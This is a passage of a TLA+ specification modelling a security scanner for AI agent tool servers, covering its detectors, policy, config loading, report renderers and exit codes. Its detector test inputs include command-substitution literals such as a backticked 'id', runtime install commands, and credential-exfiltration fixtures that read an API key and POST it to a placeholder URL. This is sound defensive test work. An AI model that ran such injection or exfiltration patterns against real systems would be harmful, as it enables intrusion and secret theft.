    /\ pc' = "applied"
    /\ UNCHANGED <<policy, targets, all_findings, verdict, report, rule, out>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

CallEvaluate ==
    /\ pc = "policy"
    /\ verdict' = Some(PolicyEvaluate(policy, all_findings))
    /\ pc' = "evaluated"
    /\ UNCHANGED <<policy, targets, all_findings, effective_findings, report, rule, out>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

NextPolicy == CallApply \/ CallEvaluate

SpecPolicy == InitPolicy /\ [][NextPolicy]_vars


(***************************************************************************)
(* ir/mod.rs: ScanTarget and SourceFile, as the detector tests build them. *)
(***************************************************************************)
SourceFile(path, language) ==
    [path |-> path, language |-> language, content |-> <<>>, size_bytes |-> 0,
     content_hash |-> <<>>]

ScanTarget(framework, commands, file_operations, network_operations, env_accesses, dynamic_exec, source_files) ==
    [name |-> <<"t", "e", "s", "t">>,
     framework |-> framework,
     root_path |-> <<".">>,
     tools |-> <<>>,
     execution |-> [commands |-> commands,
                    file_operations |-> file_operations,
                    network_operations |-> network_operations,
                    env_accesses |-> env_accesses,
                    dynamic_exec |-> dynamic_exec],
     data |-> <<>>,
     dependencies |-> <<>>,
     provenance |-> <<>>,
     source_files |-> source_files]

(***************************************************************************)
(* Inputs of the detectors.                                                *)
(***************************************************************************)
FileA == <<"a", ".", "p", "y">>
FileB == <<"b", ".", "p", "y">>
FileADotted == <<".", "/", "a", ".", "p", "y">>

CommandInvocation(function, command_arg, line) ==
    [function |-> function, command_arg |-> command_arg, location |-> SourceLocation(FileA, line)]

DynamicExec(function, line) ==
    [function |-> function, code_arg |-> Unknown, location |-> SourceLocation(FileA, line)]

FileOperation(operation, path_arg, line) ==
    [operation |-> operation, path_arg |-> path_arg, location |-> SourceLocation(FileA, line)]

NetworkOperation(url_arg, sends_data, file, line) ==
    [function |-> IF sends_data THEN <<"r", "e", "q", "u", "e", "s", "t", "s", ".", "p", "o", "s", "t">>
                  ELSE <<"r", "e", "q", "u", "e", "s", "t", "s", ".", "g", "e", "t">>,
     url_arg |-> url_arg,
     method |-> IF sends_data THEN Some("POST") ELSE Some("GET"),
     sends_data |-> sends_data,
     location |-> SourceLocation(file, line)]

EnvAccess(var_name, is_sensitive, file, line) ==
    [var_name |-> var_name, is_sensitive |-> is_sensitive,
     location |-> SourceLocation(file, line)]

OsSystem == <<"o", "s", ".", "s", "y", "s", "t", "e", "m">>

CommandLiteralInputs ==
    {<<"l", "s", " ", "-", "l", "a">>,
     <<"e", "c", "h", "o", " ", "$", "x">>,
     <<"<bt>", "i", "d", "<bt>">>,
     <<"p", "i", "p", " ", "i", "n", "s", "t", "a", "l", "l", " ", "x">>,
     <<"p", "i", "p", "3", " ", "i", "n", "s", "t", "a", "l", "l", " ", "x">>,
     <<"n", "p", "m", " ", "i">>,
     <<"n", "p", "m", " ", "i", "x">>,
     <<"n", "p", "m", " ", "i", " ", "-", "g", " ", "x">>,
     <<"n", "p", "m", " ", "i", "n", "s", "t", "a", "l", "l">>,
     <<"u", "v", " ", "p", "i", "p", " ", "i", "n", "s", "t", "a", "l", "l", " ", "x">>,
     <<"y", "a", "r", "n", " ", "a", "d", "d", " ", "x">>,
     <<"p", "n", "p", "m", " ", "a", "d", "d", " ", "x">>,
     <<"p", "n", "p", "m", " ", "i", "n", "s", "t", "a", "l", "l">>,
     <<"p", "i", "p", "i", "n", "s", "t", "a", "l", "l">>,
     <<"p", "i", "p", " ", " ", "i", "n", "s", "t", "a", "l", "l">>,
     <<"p", "i", "p", "\t", "i", "n", "s", "t", "a", "l", "l">>,
     <<>>,
     <<"p", "i", "p", " ", "i", "n", "s", "t", "a", "l", "l", " ", "$", "x">>,
     <<"u", "v", " ", " ", "p", "i", "p">>,
     <<"y", "a", "r", "n", " ", " ", "r", "e", "m", "o", "v", "e">>}

NonLiteralInputs ==
    {Parameter(<<"c", "m", "d">>), EnvVar(<<"o", "s", ".", "e", "n", "v", "i", "r", "o", "n">>),
     Interpolated, Unknown}

CommandInputs ==
    {CommandInvocation(OsSystem, a, 1) :
        a \in {Literal(v) : v \in CommandLiteralInputs} \cup NonLiteralInputs}

CommandCore ==
    {CommandInvocation(OsSystem, a, l) :
        a \in {Literal(<<"l", "s", " ", "-", "l", "a">>), Literal(<<"p", "i", "p", " ", "i", "n", "s", "t", "a", "l", "l", " ", "$", "x">>),
               Literal(<<"u", "v", " ", "p", "i", "p", " ", "i", "n", "s", "t", "a", "l", "l", " ", "x">>), Parameter(<<"c", "m", "d">>), Unknown},
        l \in {1, 2}}

DynamicInputs ==
    {DynamicExec(f, 3) :
        f \in {<<"e", "v", "a", "l">>,
              <<"p", "i", "p", ".", "m", "a", "i", "n">>,
              <<"i", "m", "p", "o", "r", "t", "l", "i", "b", ".", "i", "m", "p", "o", "r", "t", "_", "m", "o", "d", "u", "l", "e">>,
              <<"p", "i", "p", "_", "m", "a", "i", "n">>,
              <<"x", ".", "p", "i", "p", ".", "m", "a", "i", "n", "l", "o", "o", "p">>,
              <<"i", "m", "p", "o", "r", "t">>}}

DynamicCore ==
    {DynamicExec(f, 3) : f \in {<<"e", "v", "a", "l">>, <<"p", "i", "p", ".", "m", "a", "i", "n">>}}

\* targets with j facts of pool A and k of pool B, j + k <= n, as <<as, bs>>
FactPairs(A, B, n) ==
    UNION {{<<as, bs>> : bs \in SeqsUpTo(B, n - Len(as))} : as \in SeqsUpTo(A, n)}

CommandTarget(cmds, dyns) == ScanTarget("mcp", cmds, <<>>, <<>>, <<>>, dyns, <<>>)

CommandTargetInputs ==
    {CommandTarget(<<c>>, <<>>) : c \in CommandInputs}
    \cup {CommandTarget(<<>>, <<d>>) : d \in DynamicInputs}
    \cup {CommandTarget(pr[1], pr[2]) : pr \in FactPairs(CommandCore, DynamicCore, MaxFacts)}

(***************************************************************************)
(* A detector called on a target.                                          *)
(***************************************************************************)
InitDetect(inputs) ==
    /\ pc = "detect"
    /\ targets \in {<<t>> : t \in inputs}
    /\ policy = DefaultPolicy
    /\ all_findings = <<>>
    /\ effective_findings = <<>>
    /\ verdict = None
    /\ report = None
    /\ rule = ""
    /\ out = <<>>
    /\ root = None /\ args = None /\ options = None /\ error = None /\ exit_code = None

RunCommandInjection ==
    /\ pc = "detect"
    /\ rule' = "SHIELD-001"
    /\ out' = CommandInjectionRun(targets[1])
    /\ UNCHANGED <<pc, policy, targets, all_findings, effective_findings, verdict, report>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

RunCredentialExfil ==
    /\ pc = "detect"
    /\ rule' = "SHIELD-002"
    /\ out' = CredentialExfilRun(targets[1])
    /\ UNCHANGED <<pc, policy, targets, all_findings, effective_findings, verdict, report>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

RunSsrf ==
    /\ pc = "detect"
    /\ rule' = "SHIELD-003"
    /\ out' = SsrfRun(targets[1])
    /\ UNCHANGED <<pc, policy, targets, all_findings, effective_findings, verdict, report>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

RunArbitraryFileAccess ==
    /\ pc = "detect"
    /\ rule' = "SHIELD-004"
    /\ out' = ArbitraryFileAccessRun(targets[1])
    /\ UNCHANGED <<pc, policy, targets, all_findings, effective_findings, verdict, report>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

RunRuntimeInstall ==
    /\ pc = "detect"
    /\ rule' = "SHIELD-005"
    /\ out' = RuntimeInstallRun(targets[1])
    /\ UNCHANGED <<pc, policy, targets, all_findings, effective_findings, verdict, report>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

RunSelfModification ==
    /\ pc = "detect"
    /\ rule' = "SHIELD-006"
    /\ out' = SelfModificationRun(targets[1])
    /\ UNCHANGED <<pc, policy, targets, all_findings, effective_findings, verdict, report>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

InitCommands == InitDetect(CommandTargetInputs)
NextCommands == RunCommandInjection \/ RunRuntimeInstall
SpecCommands == InitCommands /\ [][NextCommands]_vars


(***************************************************************************)
(* Network and environment facts.                                          *)
(***************************************************************************)
ApiKey == Literal(<<"A", "P", "I", "_", "K", "E", "Y">>)
Url == Literal(<<"h", "t", "t", "p", "s", ":", "/", "/", "x">>)

\* lines at distances 0, 1, 30 and 31 from one another
LineInputs == {10, 40, 41}

EnvInputs ==
    {EnvAccess(ApiKey, TRUE, FileA, l) : l \in LineInputs}
    \cup {EnvAccess(ApiKey, TRUE, FileB, 10), EnvAccess(ApiKey, FALSE, FileA, 40),
          EnvAccess(Unknown, TRUE, FileADotted, 41)}

NetworkInputs ==
    {NetworkOperation(Url, TRUE, FileA, l) : l \in LineInputs}
    \cup {NetworkOperation(Url, TRUE, FileB, 40), NetworkOperation(Url, FALSE, FileA, 40)}
    \cup {NetworkOperation(a, TRUE, FileA, 10) : a \in NonLiteralInputs}
    \cup {NetworkOperation(a, FALSE, FileB, 41) : a \in NonLiteralInputs}

NetworkTarget(envs, nets) == ScanTarget("mcp", <<>>, <<>>, nets, envs, <<>>, <<>>)

NetworkTargetInputs ==
    {NetworkTarget(pr[1], pr[2]) : pr \in FactPairs(EnvInputs, NetworkInputs, MaxFacts)}

InitNetwork == InitDetect(NetworkTargetInputs)
NextNetwork == RunCredentialExfil \/ RunSsrf
SpecNetwork == InitNetwork /\ [][NextNetwork]_vars

(***************************************************************************)
(* File operations and source files.                                       *)
(***************************************************************************)
PathLiteralInputs ==
    {<<"s", ".", "p", "y">>,
     <<"s", "r", "c", "/", "s", ".", "p", "y">>,
     <<"a", "s", ".", "p", "y">>,
     <<"o", ".", "t", "x", "t">>,
     <<>>,
     <<".", "/", "s", ".", "p", "y">>,
     <<"s", "r", "c", "/", "/", "s", ".", "p", "y">>,
     <<"/", "s", ".", "p", "y">>,
     <<"c", "/", "s", ".", "p", "y">>}

SourcePathInputs ==
    {<<"s", ".", "p", "y">>,
     <<"s", "r", "c", "/", "s", ".", "p", "y">>,
     <<"/", "a", "p", "p", "/", "s", "r", "c", "/", "s", ".", "p", "y">>,
     <<"t", ".", "s", "h">>}

FileOpTypes == {"read", "write", "delete", "list", "chmod"}

PathArgInputs ==
    {Literal(v) : v \in PathLiteralInputs}
    \cup {Parameter(<<"p">>), EnvVar(<<"H", "O", "M", "E">>), Interpolated, Unknown}

FileOperationInputs == {FileOperation(op, a, 5) : op \in FileOpTypes, a \in PathArgInputs}

FileOperationCore ==
    {FileOperation(op, a, l) :
        op \in {"write", "read"},
        a \in {Literal(<<"s", ".", "p", "y">>), Literal(<<"o", ".", "t", "x", "t">>), Parameter(<<"p">>), Unknown},
        l \in {5}}

SourceFileInputs == {SourceFile(sp, "python") : sp \in SourcePathInputs}

SourceFileCore == {SourceFile(<<"s", ".", "p", "y">>, "python"), SourceFile(<<"t", ".", "s", "h">>, "shell")}

FileTarget(ops, srcs) == ScanTarget("mcp", <<>>, ops, <<>>, <<>>, <<>>, srcs)

FileTargetInputs ==
    {FileTarget(<<o>>, srcs) : o \in FileOperationInputs, srcs \in SeqsUpTo(SourceFileInputs, 2)}
    \cup {FileTarget(pr[1], pr[2]) : pr \in FactPairs(FileOperationCore, SourceFileCore, MaxFacts)}

InitFiles == InitDetect(FileTargetInputs)
NextFiles == RunArbitraryFileAccess \/ RunSelfModification
SpecFiles == InitFiles /\ [][NextFiles]_vars


(***************************************************************************)
(* config/mod.rs: Config::load.  The config file is absent (None), holds a *)
(* policy, or cannot be read or parsed.                                    *)
(***************************************************************************)
ConfigLoad(file) ==
    IF file = None THEN [ok |-> TRUE, policy |-> DefaultPolicy]
    ELSE IF file[1].valid THEN [ok |-> TRUE, policy |-> file[1].policy]
    ELSE [ok |-> FALSE, policy |-> DefaultPolicy]

ConfigPolicyInputs ==
    {DefaultPolicy,
     [fail_on |-> "critical", ignore_rules |-> {}, overrides |-> <<>>],
     [fail_on |-> "high", ignore_rules |-> {"SHIELD-003"}, overrides |-> <<>>],
     [fail_on |-> "high", ignore_rules |-> {},
      overrides |-> [r \in {"SHIELD-001"} |-> "info"]],
     [fail_on |-> "medium", ignore_rules |-> {"SHIELD-001"},
      overrides |-> [r \in {"SHIELD-001", "SHIELD-006"} |-> "low"]],
     [fail_on |-> "high", ignore_rules |-> {"SHIELD-002"},
      overrides |-> [r \in {"SHIELD-004"} |-> "critical"]]}

ConfigFileInputs ==
    {None, Some([valid |-> FALSE, policy |-> DefaultPolicy])}
    \cup {Some([valid |-> TRUE, policy |-> p]) : p \in ConfigPolicyInputs}

FailOnOverrideInputs == {None, Some("critical"), Some("low")}

(***************************************************************************)
(* adapter/mod.rs: auto_detect_and_load over the registered adapters (MCP, *)
(* then OpenClaw).  An adapter's outcome on the scanned directory is what  *)
(* its detect returned and, when it loaded, its targets.                   *)
(***************************************************************************)
NotDetected == [detect |-> FALSE, ok |-> FALSE, targets |-> <<>>]
LoadFailed == [detect |-> TRUE, ok |-> FALSE, targets |-> <<>>]
Loaded(ts) == [detect |-> TRUE, ok |-> TRUE, targets |-> ts]

\* a loader that stops at the first adapter whose detect returns true
auto_detect_and_load_FirstMatch(outcomes) ==
    LET matching == {a \in 1..Len(outcomes) : outcomes[a].detect}
        first == CHOOSE a \in matching : \A b \in matching : a <= b
    IN  IF matching = {} \/ ~outcomes[first].ok \/ outcomes[first].targets = <<>>
        THEN [ok |-> FALSE, targets |-> <<>>]
        ELSE [ok |-> TRUE, targets |-> outcomes[first].targets]

auto_detect_and_load(outcomes) ==
    LET all_targets ==
            Flatten([a \in 1..Len(outcomes) |->
                        IF outcomes[a].detect /\ outcomes[a].ok
                        THEN outcomes[a].targets
                        ELSE <<>>])
    IN  IF all_targets = <<>>
        THEN [ok |-> FALSE, targets |-> <<>>]
        ELSE [ok |-> TRUE, targets |-> all_targets]

\* the targets an adapter can have loaded: the fixtures of the integration tests
\* (safe_calculator, vuln_cmd_inject, vuln_ssrf, vuln_cred_exfil) and one target
\* with facts in every surface
ScanTargetInputs(framework) ==
    {ScanTarget(framework, <<>>, <<>>, <<>>, <<>>, <<>>,
                <<SourceFile(FileA, "python")>>),
     ScanTarget(framework,
                <<CommandInvocation(<<"s", "u", "b", "p", "r", "o", "c", "e", "s", "s", ".", "r", "u", "n">>, Parameter(<<"c", "m", "d">>), 2)>>,
                <<>>, <<>>, <<>>, <<>>, <<SourceFile(FileA, "python")>>),
     ScanTarget(framework, <<>>, <<>>,
                <<NetworkOperation(Parameter(<<"u", "r", "l">>), FALSE, FileA, 2)>>,
                <<>>, <<>>, <<SourceFile(FileA, "python")>>),
     ScanTarget(framework, <<>>, <<>>,
                <<NetworkOperation(Url, TRUE, FileA, 15)>>,
                <<EnvAccess(ApiKey, TRUE, FileA, 10)>>,
                <<>>, <<SourceFile(FileA, "python")>>),
     ScanTarget(framework,
                <<CommandInvocation(OsSystem, Literal(<<"p", "i", "p", " ", "i", "n", "s", "t", "a", "l", "l", " ", "x">>), 1)>>,
                <<FileOperation("write", Parameter(<<"p">>), 5),
                  FileOperation("read", Unknown, 6)>>,
                <<NetworkOperation(Interpolated, TRUE, FileA, 41)>>,
                <<EnvAccess(ApiKey, TRUE, FileA, 1)>>,
                <<DynamicExec(<<"p", "i", "p", ".", "m", "a", "i", "n">>, 3)>>,
                <<SourceFile(FileA, "python")>>)}

AdapterOutcomeInputs(framework) ==
    {NotDetected, LoadFailed} \cup {Loaded(<<t>>) : t \in ScanTargetInputs(framework)}

(***************************************************************************)
(* lib.rs: scan                                                            *)
(***************************************************************************)
\* for target in &targets { all_findings.extend(engine.run(target)) }
EngineRunAll(ts) == Flatten([i \in 1..Len(ts) |-> RuleEngineRun(ts[i])])

Init ==
    /\ pc = "scan"
    /\ policy = DefaultPolicy
    /\ targets = <<>>
    /\ all_findings = <<>>
    /\ effective_findings = <<>>
    /\ verdict = None
    /\ report = None
    /\ rule = ""
    /\ out = <<>>
    /\ root = None /\ args = None /\ options = None /\ error = None /\ exit_code = None

\* error.rs: the ShieldError variants
ShieldError ==
    {"Parse", "Adapter", "NoAdapter", "Config", "Rule", "Output", "Io", "Json", "Toml",
     "Internal"}

\* ShieldError::exit_code
ErrorExitCode(e) == 2

\* output/mod.rs: OutputFormat
OutputFormat == {"console", "json", "sarif", "html"}

\* lib.rs: ScanOptions, with the config file the path names (None: no such file);
\* scan does not read the format field
ScanOptions(config_file, fail_on_override) ==
    [config_file |-> config_file, fail_on_override |-> fail_on_override]

\* the errors Config::load returns for a file it cannot use: read_to_string's or
\* toml::from_str's
ConfigLoadErrors == {"Io", "Toml"}

\* a policy with every field replaced by the override
FailOnOverride_ReplacesPolicy(p, fail_on_override) ==
    IF IsSome(fail_on_override)
    THEN [DefaultPolicy EXCEPT !.fail_on = fail_on_override[1]]
    ELSE p

\* if let Some(fail_on) = options.fail_on_override { config.policy.fail_on = fail_on; }
FailOnOverride(p, fail_on_override) ==
    IF IsSome(fail_on_override)
    THEN [p EXCEPT !.fail_on = fail_on_override[1]]
    ELSE p

\* cmd_scan's ScanOptions, then Config::load(&config_path)? and the CLI override of
\* fail_on
ScanLoadConfig ==
    /\ pc = "scan"
    /\ \E file \in ConfigFileInputs, fail_on_override \in FailOnOverrideInputs :
          LET config == ConfigLoad(file)
          IN  /\ options' = Some(ScanOptions(file, fail_on_override))
              /\ IF ~config.ok
                 THEN /\ pc' = "error"
                      /\ \E e \in ConfigLoadErrors : error' = Some(e)
                      /\ UNCHANGED policy
                 ELSE /\ pc' = "load"
                      /\ policy' = FailOnOverride(config.policy, fail_on_override)
                      /\ UNCHANGED error
    /\ UNCHANGED <<targets, all_findings, effective_findings, verdict, report, rule, out>>
    /\ UNCHANGED <<root, args, exit_code>>

\* adapter::auto_detect_and_load(path)?
ScanLoadTargets ==
    /\ pc = "load"
    /\ \E mcp \in AdapterOutcomeInputs("mcp"), openclaw \in AdapterOutcomeInputs("openclaw") :
          LET loaded == auto_detect_and_load(<<mcp, openclaw>>)
          IN  IF ~loaded.ok
              THEN pc' = "error" /\ error' = Some("NoAdapter") /\ UNCHANGED targets
              ELSE pc' = "run" /\ targets' = loaded.targets /\ UNCHANGED error
    /\ UNCHANGED <<policy, all_findings, effective_findings, verdict, report, rule, out>>
    /\ UNCHANGED <<root, args, options, exit_code>>

\* the status of a process whose main thread panicked: 101 when the panic unwinds,
\* 134 (SIGABRT) when the build aborts on panic
PanicExitCodes == {101, 134}

\* an extractor panics inside a detected adapter's load: the process ends there
ScanLoadPanics ==
    /\ pc = "load"
    /\ pc' = "panic"
    /\ \E c \in PanicExitCodes : exit_code' = Some(c)
    /\ UNCHANGED <<policy, targets, all_findings, effective_findings, verdict, report, rule, out>>
    /\ UNCHANGED <<root, args, options, error>>

\* RuleEngine::new() and the loop over the targets
ScanRunDetectors ==
    /\ pc = "run"
    /\ all_findings' = EngineRunAll(targets)
    /\ pc' = "policy"
    /\ UNCHANGED <<policy, targets, effective_findings, verdict, report, rule, out>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

\* policy.apply, policy.evaluate and the ScanReport returned
ScanApplyPolicy ==
    /\ pc = "policy"
    /\ effective_findings' = PolicyApply(policy, all_findings)
    /\ verdict' = Some(PolicyEvaluate(policy, all_findings))
    /\ report' = Some([target_name |-> targets[1].name,
                       findings |-> effective_findings',
                       verdict |-> verdict'[1]])
    /\ pc' = "done"
    /\ UNCHANGED <<policy, targets, all_findings, rule, out>>
    /\ UNCHANGED <<root, args, options, error, exit_code>>

(***************************************************************************)
(* output/: the renderers.  A rendered report is kept as the sequence of   *)
(* its parts in the order the renderer writes them.                        *)
(***************************************************************************)
\* the printable characters in byte order (the double quote, the backslash and the
\* backtick occur in no path)
ByteOrder ==
    <<" ", "!", "#", "$", "%", "&", "'", "(", ")", "*", "+", ",", "-", ".", "/", "0", 
      "1", "2", "3", "4", "5", "6", "7", "8", "9", ":", ";", "<", "=", ">", "?", "@", 
      "A", "B", "C", "D", "E", "F", "G", "H", "I", "J", "K", "L", "M", "N", "O", "P", 
      "Q", "R", "S", "T", "U", "V", "W", "X", "Y", "Z", "[", "]", "^", "_", "a", "b", 
      "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n", "o", "p", "q", "r", 
      "s", "t", "u", "v", "w", "x", "y", "z", "{", "|", "}", "~">>

ByteRank(c) == CHOOSE i \in 1..Len(ByteOrder) : ByteOrder[i] = c

\* Ord for str: lexicographic on the bytes
RECURSIVE StrLt(_, _)
StrLt(a, b) ==
    IF b = <<>> THEN FALSE
    ELSE IF a = <<>> THEN TRUE
    ELSE IF Head(a) # Head(b) THEN ByteRank(Head(a)) < ByteRank(Head(b))
    ELSE StrLt(Tail(a), Tail(b))

\* Ord for Path: lexicographic on the components
RECURSIVE ComponentsLt(_, _)
ComponentsLt(a, b) ==
    IF b = <<>> THEN FALSE
    ELSE IF a = <<>> THEN TRUE
    ELSE IF Head(a) # Head(b) THEN StrLt(Head(a), Head(b))
    ELSE ComponentsLt(Tail(a), Tail(b))

PathLt(a, b) == ComponentsLt(Components(a), Components(b))

\* Ord for Option<&PathBuf>: None first
OptionPathLt(a, b) ==
    IF b = None THEN FALSE
    ELSE IF a = None THEN TRUE
    ELSE PathLt(a[1], b[1])

\* the rule ids in the byte order of String
RuleIdOrder ==
    <<"SHIELD-001", "SHIELD-002", "SHIELD-003", "SHIELD-004", "SHIELD-005", "SHIELD-006">>

RuleIdLt(a, b) ==
    \E i, j \in 1..Len(RuleIdOrder) : i < j /\ RuleIdOrder[i] = a /\ RuleIdOrder[j] = b

LocationFile(f) == IF f.location = None THEN None ELSE Some(f.location[1].file)

\* console::render's comparator: b.severity.cmp(&a.severity), then the files
ConsoleLess(a, b) ==
    \/ SeverityOrd(a.severity) > SeverityOrd(b.severity)
    \/ /\ a.severity = b.severity
       /\ OptionPathLt(LocationFile(a), LocationFile(b))

\* html::render's comparator: b.severity.cmp(&a.severity), then the rule ids
HtmlLess(a, b) ==
    \/ SeverityOrd(a.severity) > SeverityOrd(b.severity)
    \/ a.severity = b.severity /\ RuleIdLt(a.rule_id, b.rule_id)

RenderLess(renderer, a, b) ==
    IF renderer = "console" THEN ConsoleLess(a, b) ELSE HtmlLess(a, b)

\* slice::sort_by is stable: an element goes after the elements that are not greater
RECURSIVE StableInsert(_, _, _)
StableInsert(renderer, sorted, f) ==
    IF sorted = <<>> THEN <<f>>
    ELSE IF RenderLess(renderer, f, Head(sorted)) THEN <<f>> \o sorted
    ELSE <<Head(sorted)>> \o StableInsert(renderer, Tail(sorted), f)

RECURSIVE SortBy(_, _)
SortBy(renderer, findings) ==
    IF findings = <<>> THEN <<>>
    ELSE StableInsert(renderer, SortBy(renderer, SubSeq(findings, 1, Len(findings) - 1)),
                      findings[Len(findings)])

\* format!("{}:{}", l.file.display(), l.line), or "-"
DisplayLocation(f) ==
    IF f.location = None THEN <<"-">>
    ELSE <<f.location[1].file, ":", f.location[1].line>>

\* the Result line of the console report
ConsoleVerdict(v) ==
    [status |-> IF v.pass THEN "PASS" ELSE "FAIL",
     threshold |-> v.fail_threshold,
     highest |-> IF v.highest_severity = None THEN "none"
                 ELSE v.highest_severity[1]]

\* console::render
ConsoleRender(findings, v) ==
    IF findings = <<>> THEN [header |-> "No security findings detected.", rows |-> <<>>]
    ELSE LET sorted == SortBy("console", findings)
         IN  [header |-> <<Len(findings), "finding(s) detected:">>,
              rows |-> [i \in 1..Len(sorted) |->
                          [severity_tag |-> sorted[i].severity,
                           rule_id |-> sorted[i].rule_id,
                           message |-> sorted[i].message,
                           at |-> DisplayLocation(sorted[i]),
                           fix |-> sorted[i].remediation]],
              result |-> ConsoleVerdict(v)]

\* json::render: serde writes the findings slice in its order, then the v
JsonRender(findings, v) == [findings |-> findings, verdict |-> v]

\* severity_to_sarif_level
severity_to_sarif_level(severity) ==
    CASE severity \in {"critical", "high"} -> "error"
      [] severity = "medium" -> "warning"
      [] severity \in {"low", "info"} -> "note"

\* the rules array of the SARIF log: the rule ids in BTreeSet order, each described
\* from the first finding that carries it
SarifRules(findings) ==
    LET ids == {findings[i].rule_id : i \in 1..Len(findings)}
        present == SelectSeq(RuleIdOrder, LAMBDA r : r \in ids)
        First(r) == findings[CHOOSE i \in 1..Len(findings) :
                        /\ findings[i].rule_id = r
                        /\ \A j \in 1..(i - 1) : findings[j].rule_id # r]
    IN  [k \in 1..Len(present) |->
            [id |-> present[k],
             name |-> First(present[k]).rule_name,
             level |-> severity_to_sarif_level(First(present[k]).severity),
             tags |-> First(present[k]).cwe_id]]

\* one element of the results array
SarifResult(f) ==
    [ruleId |-> f.rule_id,
     level |-> severity_to_sarif_level(f.severity),
     message |-> f.message,
     locations |-> IF f.location = None THEN <<>>
                   ELSE <<[uri |-> f.location[1].file,
                           startLine |-> f.location[1].line,
                           startColumn |-> f.location[1].column]>>,
     fixes |-> f.remediation]

\* sarif::render
SarifRender(findings, target_name) ==
    [rules |-> SarifRules(findings),
     results |-> [i \in 1..Len(findings) |-> SarifResult(findings[i])],
     automationDetails |-> target_name]

\* html_escape
HtmlEscape(s) ==
    Flatten([i \in 1..Len(s) |->
        CASE s[i] = "&" -> <<"&", "a", "m", "p", ";">>
          [] s[i] = "<" -> <<"&", "l", "t", ";">>
          [] s[i] = ">" -> <<"&", "g", "t", ";">>
          [] s[i] = "\"" -> <<"&", "q", "u", "o", "t", ";">>
          [] OTHER -> <<s[i]>>])

\* SeverityCounts::from_findings
SeverityCounts(findings) ==
    [s \in Severity |-> Cardinality({i \in 1..Len(findings) : findings[i].severity = s})]

\* html::render
HtmlRender(findings, v, target_name) ==
    LET sorted == SortBy("html", findings)
    IN  [target |-> target_name,
         status |-> IF v.pass THEN "PASS" ELSE "FAIL",
         total |-> Len(findings),
         counts |-> SeverityCounts(findings),
         rows |-> [i \in 1..Len(sorted) |->
                     [severity |-> sorted[i].severity,
                      rule_id |-> sorted[i].rule_id,
                      rule_name |-> sorted[i].rule_name,
                      message |-> HtmlEscape(sorted[i].message),
                      location |-> DisplayLocation(sorted[i]),
                      cwe |-> sorted[i].cwe_id,
                      confidence |-> sorted[i].confidence,
                      remediation |-> sorted[i].remediation]]]

\* output::render
Render(format, findings, v, target_name) ==
    CASE format = "console" -> ConsoleRender(findings, v)
      [] format = "json" -> JsonRender(findings, v)
      [] format = "sarif" -> SarifRender(findings, target_name)
      [] format = "html" -> HtmlRender(findings, v, target_name)

(***************************************************************************)
(* bin/cli.rs: cmd_scan after scan returned, and main                      *)
(***************************************************************************)
\* output::render: the console renderer returns a String, the others a Result
RenderCanFail(format) == format # "console"

\* the error a failed renderer returns
RenderErrors == {"Json", "Output"}

\* let rendered = agentshield::render_report(&report, format)?
CliRender ==
    /\ pc = "done"
    /\ \E format \in OutputFormat, fails \in BOOLEAN :
          IF fails /\ RenderCanFail(format)
          THEN /\ pc' = "error"
               /\ \E e \in RenderErrors : error' = Some(e)
               /\ UNCHANGED out
          ELSE /\ pc' = "rendered"
               /\ out' = <<format>>
               /\ UNCHANGED error
    /\ UNCHANGED <<policy, targets, all_findings, effective_findings, verdict, report, rule>>
    /\ UNCHANGED <<root, args, options, exit_code>>

\* what cmd_scan is told to do with the rendered report: print it (no output path),
\* or write it to a file, which succeeds or fails
OutputPathInputs == {None, Some("writable"), Some("unwritable")}

\* match output_path { Some(out) => std::fs::write(&out, &rendered)?, None => print!(..) }
CliWrite ==
    /\ pc = "rendered"
    /\ \E output_path \in OutputPathInputs :
          /\ args' = Some([output_path |-> output_path])
          /\ IF output_path = Some("unwritable")
             THEN pc' = "error" /\ error' = Some("Io")
             ELSE pc' = "written" /\ UNCHANGED error
    /\ UNCHANGED <<policy, targets, all_findings, effective_findings, verdict, report, rule, out>>
    /\ UNCHANGED <<root, options, exit_code>>

\* an exit code that reports a failing verdict as 0 and a passing one as 1
ScanExitCode_Inverted(r) == IF r.verdict.pass THEN 1 ELSE 0

\* Ok(if report.verdict.pass { 0 } else { 1 })
ScanExitCode(r) == IF r.verdict.pass THEN 0 ELSE 1

\* main: Ok(exit_code) => process::exit(exit_code)
MainExitOk ==
    /\ pc = "written"
    /\ exit_code' = Some(ScanExitCode(report[1]))
    /\ pc' = "exit"
    /\ UNCHANGED <<policy, targets, all_findings, effective_findings, verdict, report, rule, out>>
    /\ UNCHANGED <<root, args, options, error>>

\* main: Err(e) => process::exit(e.exit_code())
MainExitErr ==
    /\ pc = "error"
    /\ exit_code' = Some(ErrorExitCode(error[1]))
    /\ pc' = "exit"
    /\ UNCHANGED <<policy, targets, all_findings, effective_findings, verdict, report, rule, out>>
    /\ UNCHANGED <<root, args, options, error>>

Next ==
    \/ ScanLoadConfig \/ ScanLoadTargets \/ ScanLoadPanics \/ ScanRunDetectors
    \/ ScanApplyPolicy \/ CliRender \/ CliWrite \/ MainExitOk \/ MainExitErr

Spec == Init /\ [][Next]_vars

(***************************************************************************)
(* Properties of the detectors.                                            *)
(***************************************************************************)
\* what a property reads of a finding list: severity, confidence, location
Summary(fs) == [j \in 1..Len(fs) |-> <<fs[j].severity, fs[j].confidence, fs[j].location>>]

\* one expected summary entry per confidence in confs, at the fact's location
Expect(severity, confs, fact) ==
    [k \in 1..Len(confs) |-> <<severity, confs[k], Some(fact.location)>>]

C4_Confidences(arg) ==
    IF arg.tag \in {"Parameter", "Interpolated"} THEN <<"high">>
    ELSE IF arg.tag \in {"Unknown", "EnvVar"} THEN <<"medium">>
    ELSE IF \E i \in 1..Len(arg.val) : arg.val[i] \in {"$", "<bt>"} THEN <<"medium">>
    ELSE <<>>

\* C4: SHIELD-001 emits, per CommandInvocation and in order, exactly one Critical
\* finding with confidence High for Parameter/Interpolated, exactly one with Medium
\* for Unknown/EnvVar, exactly one with Medium for a Literal containing '$' or a
\* backtick, and nothing for any other Literal.
C4_CommandInjectionTable ==
    rule = "SHIELD-001" =>
        LET cmds == targets[1].execution.commands
        IN  /\ Summary(out) =
